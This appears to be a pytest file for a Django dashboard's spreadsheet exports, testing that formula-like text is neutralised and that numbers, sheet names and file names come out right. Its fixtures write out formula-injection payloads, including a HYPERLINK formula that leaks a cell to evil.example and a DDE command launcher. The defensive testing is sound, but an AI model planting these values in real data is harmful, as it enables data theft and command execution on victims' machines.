"""Exports open as data in a spreadsheet: text that looks like a formula never runs, numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.dashboards.test_views import url

pytestmark = pytest.mark.django_db

# Text a spreadsheet would run as a formula, as people could type it into a name.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
FORMULAS = {
    "unit": HYPERLINK,
    "label": "+1",
    "short_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit_of_measure": "-2+3",
    "other_unit": "\t=1+1",
}


@pytest.fixture
def formulas(scenario, program):
    """A unit and a target whose texts all start like formulas; the unit reports approved figures."""
    scenario["b"].name = FORMULAS["unit"]
    scenario["b"].save()
    scenario["c"].name = FORMULAS["other_unit"]
    scenario["c"].save()
    target = program.targets.get(label="1")
    target.label, target.short_name = FORMULAS["label"], FORMULAS["short_name"]
    target.unit_of_measure = FORMULAS["unit_of_measure"]
    target.save()
    return target


def _xlsx(client, page, program, **params):
    response = client.get(url(page, program, format="xlsx", **params))
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _csv(client, page, program, **params):
    response = client.get(url(page, program, format="csv", **params))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("page", ["dashboard", "units", "trend", "completeness"])
def test_no_cell_of_any_export_is_a_formula(client, board_viewer, formulas, program, page):
    client.force_login(board_viewer)
    workbook = _xlsx(client, page, program, quarter=2, target=formulas.pk)
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip("\t").startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    texts.add(cell.value)
    # The text itself is kept exactly as typed: the cell shows it, it just never runs.
    expected = {
        "dashboard": {FORMULAS["label"], FORMULAS["unit_of_measure"]},
        "units": {FORMULAS["unit"]},
        "trend": set(),
        "completeness": {FORMULAS["unit"], FORMULAS["other_unit"]},
    }[page]
    assert expected <= texts

    for line in _csv(client, page, program, quarter=2, target=formulas.pk):
        for text in line:
            assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), (page, text)


def test_the_dashboard_export_keeps_the_text_and_the_numbers(client, board_viewer, formulas, program):
    """Approved as of Q2/2025: 600 new members against 750 expected (80 %), see the scenario."""
    client.force_login(board_viewer)
    sheet = _xlsx(client, "dashboard", program, quarter=2).worksheets[1]  # after "Thông tin"
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == FORMULAS["label"])
    assert row[1] == FORMULAS["short_name"]
    assert row[3] == FORMULAS["unit_of_measure"]
    assert (row[4], row[5], row[6]) == (600, 750, 80)

    lines = _csv(client, "dashboard", program, quarter=2)
    line = next(line for line in lines if line[:1] == ["'+1"])
    assert line[1:7] == ["'" + FORMULAS["short_name"], "từ 1.500 trở lên", "'-2+3", "600", "750", "80"]


def test_a_unit_breakdown_names_the_unit_as_typed(client, board_viewer, formulas, program, scenario):
    """Commune B reported 100 new members approved in Q1/2025 (see the scenario)."""
    client.force_login(board_viewer)
    sheet = _xlsx(client, "units", program, quarter=1).worksheets[1]
    row = next(r for r in sheet[2 : sheet.max_row] if r[0].value == HYPERLINK)
    assert row[0].data_type == "s" and row[0].quotePrefix
    assert row[2].value == 100 and row[2].data_type == "n"
    csv_row = next(line for line in _csv(client, "units", program, quarter=1) if line[:1] == ["'" + HYPERLINK])
    assert csv_row[2] == "100"


def test_characters_a_spreadsheet_cannot_hold_are_dropped_not_a_server_error(client, board_viewer, scenario, program):
    """A vertical tab, as a word processor pastes a line break, is not allowed in an XLSX file."""
    scenario["b"].name = "Hội Nông dân\x0bxã B\x01"
    scenario["b"].save()
    client.force_login(board_viewer)
    sheet = _xlsx(client, "units", program, quarter=1).worksheets[1]
    assert "Hội Nông dânxã B" in [cell.value for cell in sheet["A"]]


def test_the_trend_sheet_is_named_as_excel_allows(client, board_viewer, scenario, program):
    """The trend table's title has a colon ("Diễn biến: 1. …"), which Excel does not allow in a sheet name."""
    client.force_login(board_viewer)
    workbook = _xlsx(client, "trend", program, quarter=2)
    assert workbook.sheetnames == ["Thông tin", "Diễn biến- 1. Kết nạp hội viên "]


@pytest.mark.parametrize("page", ["dashboard", "units", "trend", "completeness"])
def test_every_export_says_what_it_holds_and_is_named_for_it(client, board_viewer, scenario, program, page):
    """Program, unit, period, counting, units counted of those due, when: in the file and in its name."""
    client.force_login(board_viewer)
    response = client.get(url(page, program, format="xlsx", quarter=2, counted="submitted"))
    about = dict(load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert about["Chương trình"] == str(program)
    assert (about["Đơn vị"], about["Kỳ"]) == (scenario["root"].name, "6 tháng đầu năm 2025")
    assert about["Báo cáo được tính"] == "Đã duyệt và đã gửi chờ duyệt"
    # Q2/2025 counting submitted reports: the branch (approved) and B (submitted) of the branch, B and C.
    assert about["Đơn vị đã báo cáo"] == "2/3 đơn vị đã báo cáo Quý II/2025"
    assert about["Lập lúc"]
    filename = response["Content-Disposition"]
    assert f"{program.slug}-" in filename and f"-{scenario['root'].code.lower()}-2025-q2-da-gui.xlsx" in filename


def test_the_comparison_export_says_what_it_holds(client, board_viewer, scenario, program):
    client.force_login(board_viewer)
    response = client.get("/dashboards/so-sanh/?format=csv&year=2025&quarter=2")
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert lines[0] == ["Thông tin"] and ["Kỳ", "6 tháng đầu năm 2025"] in lines
    assert "so-sanh-2025-q2-da-duyet.csv" in response["Content-Disposition"]
